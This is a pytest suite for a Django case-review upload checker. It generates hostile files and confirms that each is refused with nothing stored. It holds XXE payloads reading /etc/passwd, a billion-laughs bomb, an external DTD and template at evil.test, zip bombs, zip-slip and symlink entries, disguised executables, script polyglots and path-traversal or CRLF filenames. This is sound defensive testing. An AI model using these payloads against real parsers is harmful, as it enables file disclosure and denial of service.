"""SECURITY.md UP-1: a corpus of hostile files, generated here, each refused by the chronology
upload with a clear message and nothing stored (rows, documents, files, queued work)."""

from __future__ import annotations

import io
import os
import struct
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils.html import escape

from casereview.chronologies.models import (
    ChronologyEntry,
    ChronologySubmission,
    ExportJob,
)
from casereview.core.models import AuditEvent, Document
from casereview.core.uploads import MAX_BYTES, OLE_MAGIC, UploadRefused, check_upload

from .conftest import POLICE_ROWS, csv_bytes, docx_bytes, xlsx_bytes

pytestmark = pytest.mark.django_db

XXE = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    b"<w:document>&e;</w:document>"
)
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">'.encode() for i in range(1, 10)
    ).replace(b"&lol0;", b"&lol;")
    + b"]><lolz>&lol9;</lolz>"
)
EXTERNAL_DTD = b'<?xml version="1.0"?><!DOCTYPE w SYSTEM "http://evil.test/x.dtd"><w:document/>'
EXTERNAL_TEMPLATE = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    b'.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlf'
    b'ormats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.test'
    b'/t.dotm" TargetMode="External"/></Relationships>'
)


def docx() -> bytes:
    return docx_bytes(POLICE_ROWS)


def xlsx() -> bytes:
    return xlsx_bytes(POLICE_ROWS)


def rezip(base: bytes, add: dict[str, bytes] | None = None, **options) -> bytes:
    """A copy of an Office file with parts replaced or added (ZipInfo options for new parts)."""
    add = add or {}
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            if item.filename not in add:
                target.writestr(item, source.read(item))
        for name, data in add.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            for key, value in options.items():
                setattr(info, key, value)
            target.writestr(info, data)
    return out.getvalue()


def many_parts() -> bytes:
    return rezip(docx(), {f"word/media/p{i}.xml": b"<x/>" for i in range(1001)})


def lying_size() -> bytes:
    """A part whose central directory says 10 bytes while it inflates to 3 MB."""
    content = bytearray(rezip(docx(), {"word/media/big.bin": b"\0" * (3 * 1024 * 1024)}))
    name = b"word/media/big.bin"
    position = 0
    while True:
        central = content.find(b"PK\x01\x02", position)
        if central < 0:
            break
        length = struct.unpack_from("<H", content, central + 28)[0]
        if content[central + 46 : central + 46 + length] == name:
            struct.pack_into("<I", content, central + 24, 10)
        position = central + 4
    return bytes(content)


def password_protected() -> bytes:
    """What Office writes for a password-protected .docx: a CDF holding EncryptedPackage."""
    return OLE_MAGIC + b"\0" * 504 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 2048


def encrypted_zip_entry() -> bytes:
    """A part whose flags say it is encrypted (set in the central directory, which is read)."""
    content = bytearray(rezip(docx(), {"word/secret.xml": b"<x/>"}))
    central = content.find(b"PK\x01\x02" + b"")
    while central >= 0:
        length = struct.unpack_from("<H", content, central + 28)[0]
        if content[central + 46 : central + 46 + length] == b"word/secret.xml":
            content[central + 8] |= 0x1
        central = content.find(b"PK\x01\x02", central + 4)
    return bytes(content)


@dataclass(frozen=True)
class Hostile:
    name: str
    build: Callable[[], bytes]
    message: str | tuple[str, ...]


MB = 1024 * 1024
CORPUS = {
    # 1. size
    "over-the-limit-by-one-byte": Hostile(
        "big.csv", lambda: b"a" * (MAX_BYTES + 1), "larger than 10 MB"
    ),
    "empty": Hostile("empty.csv", lambda: b"", "The submitted file is empty."),
    # 2. archive bombs
    "part-inflating-to-60-mb": Hostile(
        "bomb.docx", lambda: rezip(docx(), {"word/media/a.bin": b"\0" * (60 * MB)}), "zip bomb"
    ),
    "central-directory-lies-about-size": Hostile(
        "liar.docx", lying_size, ("zip bomb", "is damaged")
    ),
    "zip-inside-zip": Hostile(
        "nested.docx", lambda: rezip(docx(), {"word/media/inner.dat": docx()}), "another archive"
    ),
    "more-than-1000-entries": Hostile("many.docx", many_parts, "more than 500 parts"),
    "ratio-over-100-to-1": Hostile(
        "ratio.xlsx",
        lambda: rezip(xlsx(), {"xl/media/z.bin": b"\0" * (2 * MB)}),
        "more than 100 to 1",
    ),
    # 3. zip slip
    "entry-dot-dot": Hostile("slip.docx", lambda: rezip(docx(), {"../../x": b"x"}), "unsafe name"),
    "entry-absolute": Hostile("slip.docx", lambda: rezip(docx(), {"/etc/x": b"x"}), "unsafe name"),
    "entry-drive-letter": Hostile(
        "slip.docx", lambda: rezip(docx(), {"C:\\x": b"x"}), "unsafe name"
    ),
    "entry-symlink": Hostile(
        "link.docx",
        lambda: rezip(docx(), {"word/link": b"/etc/passwd"}, external_attr=0o120777 << 16),
        "link to another file",
    ),
    # 4. XML
    "xxe-in-word-document": Hostile(
        "xxe.docx", lambda: rezip(docx(), {"word/document.xml": XXE}), "DOCTYPE"
    ),
    "xxe-in-sheet": Hostile(
        "xxe.xlsx", lambda: rezip(xlsx(), {"xl/worksheets/sheet1.xml": XXE}), "DOCTYPE"
    ),
    "billion-laughs": Hostile(
        "laughs.xlsx", lambda: rezip(xlsx(), {"xl/sharedStrings.xml": LAUGHS}), "DOCTYPE"
    ),
    "external-dtd": Hostile(
        "dtd.docx", lambda: rezip(docx(), {"word/styles.xml": EXTERNAL_DTD}), "DOCTYPE"
    ),
    # 5. active content
    "docm": Hostile("macro.docm", docx, "can hold macros (.docm)"),
    "xlsm": Hostile("macro.xlsm", xlsx, "can hold macros (.xlsm)"),
    "pptm": Hostile("macro.pptm", docx, "can hold macros (.pptm)"),
    "vba-project-in-docx": Hostile(
        "vba.docx",
        lambda: rezip(docx(), {"word/vbaProject.bin": b"\1" * 64}),
        "macros, ActiveX controls or embedded objects",
    ),
    "activex-in-docx": Hostile(
        "ax.docx",
        lambda: rezip(docx(), {"word/activeX/activeX1.xml": b"<ax/>"}),
        "macros, ActiveX controls or embedded objects",
    ),
    "ole-object-in-xlsx": Hostile(
        "ole.xlsx",
        lambda: rezip(xlsx(), {"xl/embeddings/oleObject1.bin": b"\1" * 64}),
        "macros, ActiveX controls or embedded objects",
    ),
    "legacy-xls": Hostile("old.xls", lambda: OLE_MAGIC + b"\0" * 1024, "Save it as .xlsx/.docx"),
    "legacy-doc": Hostile("old.doc", lambda: OLE_MAGIC + b"\0" * 1024, "Save it as .xlsx/.docx"),
    "ole-with-vba-renamed-xlsx": Hostile(
        "vba.xlsx",
        lambda: OLE_MAGIC + b"\0" * 512 + "_VBA_PROJECT".encode("utf-16-le"),
        "old-format Office file",
    ),
    "svg": Hostile(
        "picture.svg",
        lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        "Upload a .csv or .xlsx or .docx file",
    ),
    "html": Hostile(
        "page.html",
        lambda: b"<html><script>alert(1)</script></html>",
        "Upload a .csv or .xlsx or .docx file",
    ),
    "external-template": Hostile(
        "template.docx",
        lambda: rezip(docx(), {"word/_rels/settings.xml.rels": EXTERNAL_TEMPLATE}),
        "links to an outside template",
    ),
    # 6. type confusion
    "program-renamed-csv": Hostile(
        "rows.csv", lambda: b"MZ\x90\0" + b"\0" * 200, "it is a program"
    ),
    "program-renamed-xlsx": Hostile(
        "rows.xlsx", lambda: b"MZ\x90\0" + b"\0" * 200, "not a real Excel .xlsx file"
    ),
    "html-renamed-docx": Hostile(
        "rows.docx",
        lambda: b"<!doctype html><html><body>x</body></html>",
        "not a real Word .docx file",
    ),
    "gif-js-polyglot": Hostile("rows.csv", lambda: b"GIF89a/*\0*/=alert(1);", "it is an image"),
    "html-renamed-csv": Hostile(
        "rows.csv", lambda: b"<html><body><script>x()</script>", "web page or markup"
    ),
    "pdf-dot-exe": Hostile("rows.pdf.exe", lambda: b"MZ" + b"\0" * 100, "ends in .exe"),
    # Django drops some characters from an uploaded name; either refusal will do.
    "rtl-override": Hostile(
        "rows\u202excod.exe", lambda: b"MZ" + b"\0" * 100, ("reverse its text", "ends in .exe")
    ),
    "right-name-wrong-magic": Hostile(
        "rows.xlsx", lambda: b"%PDF-1.7\n" + b"x" * 100, "its contents do not match its name"
    ),
    "spreadsheet-named-docx": Hostile("rows.docx", xlsx, "it is an Excel .xlsx file"),
    "docx-without-document": Hostile(
        "rows.docx",
        lambda: rezip(docx(), {}).replace(b"word/document.xml", b"word/documemt.xml"),
        ("not a Word .docx file", "is damaged"),
    ),
    "binary-named-csv": Hostile("rows.csv", lambda: b"DATE,x\n\0\0\0\1\2", "it is not text"),
    # 7. encrypted
    "password-protected-docx": Hostile(
        "locked.docx", password_protected, "Remove the password and upload it again"
    ),
    "encrypted-zip-entry": Hostile(
        "locked.docx", encrypted_zip_entry, "Remove the password and upload it again"
    ),
    # Readable, but not a chronology.
    "no-header-row": Hostile(
        "rows.csv", lambda: b"DATE,WHAT\n01/01/2024,x\n", "No chronology header row found"
    ),
    "header-only": Hostile("rows.csv", lambda: csv_bytes([]), "no rows under it"),
}


def _files() -> list[str]:
    root = settings.MEDIA_ROOT
    found = []
    for folder, _, names in os.walk(root):
        found.extend(os.path.join(folder, n) for n in names)
    return sorted(found)


def _snapshot() -> tuple:
    return (
        ChronologySubmission.objects.count(),
        ChronologyEntry.objects.count(),
        Document.objects.count(),
        ExportJob.objects.count(),
        AuditEvent.objects.filter(kind__in=["DOCUMENT_STORED", "CHRONOLOGY_UPLOADED"]).count(),
        _files(),
    )


def test_the_corpus_holds_more_than_40_kinds_of_hostile_file():
    assert len(CORPUS) >= 40


def test_a_name_of_300_characters_is_refused():
    # Django cuts an uploaded name to 255 characters before a view sees it; the check itself
    # refuses longer ones for callers that pass a name from elsewhere.
    with pytest.raises(UploadRefused, match="longer than 255 characters"):
        check_upload("a" * 296 + ".csv", csv_bytes(POLICE_ROWS))


def test_a_right_to_left_override_in_a_name_is_refused():
    with pytest.raises(UploadRefused, match="reverse its text"):
        check_upload("rows\u202excod.csv", csv_bytes(POLICE_ROWS))


@pytest.mark.parametrize("kind", list(CORPUS))
def test_a_hostile_file_is_refused_with_a_clear_message_and_nothing_is_stored(
    cast, as_person, police_commission, kind
):
    hostile = CORPUS[kind]
    content = hostile.build()
    client = as_person(cast.police_author)
    before = _snapshot()
    started = time.perf_counter()
    response = client.post(
        reverse("chronologies:upload", args=[police_commission.review_id, police_commission.pk]),
        {"file": SimpleUploadedFile(hostile.name, content)},
    )
    elapsed = time.perf_counter() - started
    body = response.content.decode()
    assert response.status_code == 400
    expected = hostile.message if isinstance(hostile.message, tuple) else (hostile.message,)
    assert any(escape(text) in body for text in expected), (kind, expected)
    assert 'class="govuk-error-message"' in body
    assert _snapshot() == before
    assert elapsed < 2, f"{kind} took {elapsed:.1f} s"


@pytest.mark.parametrize(
    "name",
    ["../../etc/passwd.csv", "evil\0name.csv", "head\r\ner: x.csv", "CON.csv", "é" * 120 + ".csv"],
)
def test_a_strange_name_is_only_a_display_name_and_never_reaches_the_disk(
    cast, as_person, police_commission, name
):
    client = as_person(cast.police_author)
    response = client.post(
        reverse("chronologies:upload", args=[police_commission.review_id, police_commission.pk]),
        {"file": SimpleUploadedFile(name, csv_bytes(POLICE_ROWS))},
    )
    if response.status_code == 400:  # the name broke the request itself: nothing is kept
        assert not Document.objects.exists() and not _files()
        return
    assert response.status_code == 302
    document = Document.objects.get(kind="chronology-source")
    stored = os.path.relpath(document.file.path, settings.MEDIA_ROOT)
    assert stored.startswith("documents/") and len(stored.split("/")[-1]) == 32
    for part in ("passwd", "evil", "head", "CON", "é"):
        assert part not in stored
    assert "\0" not in document.filename and "\n" not in document.filename


def test_more_than_100_files_in_one_request_are_refused(cast, as_person, police_commission):
    client = as_person(cast.police_author)
    before = _snapshot()
    files = [SimpleUploadedFile(f"f{i}.csv", b"x") for i in range(101)]
    response = client.post(
        reverse("chronologies:upload", args=[police_commission.review_id, police_commission.pk]),
        {"file": files},
    )
    assert response.status_code == 400
    assert _snapshot() == before


@pytest.mark.parametrize(
    ("name", "build"),
    [("ok.csv", lambda: csv_bytes(POLICE_ROWS)), ("ok.xlsx", xlsx), ("ok.docx", docx)],
)
def test_the_pro_forma_in_each_format_passes_the_checks(name, build):
    assert check_upload(name, build()) == "." + name.rsplit(".", 1)[1]


def test_a_hyperlink_is_not_an_outside_template():
    link = EXTERNAL_TEMPLATE.replace(b"attachedTemplate", b"hyperlink")
    check_upload("ok.docx", rezip(docx(), {"word/_rels/settings.xml.rels": link}))


def test_the_refusal_is_an_upload_refused_error():
    with pytest.raises(UploadRefused, match="Remove the password"):
        check_upload("x.docx", password_protected())
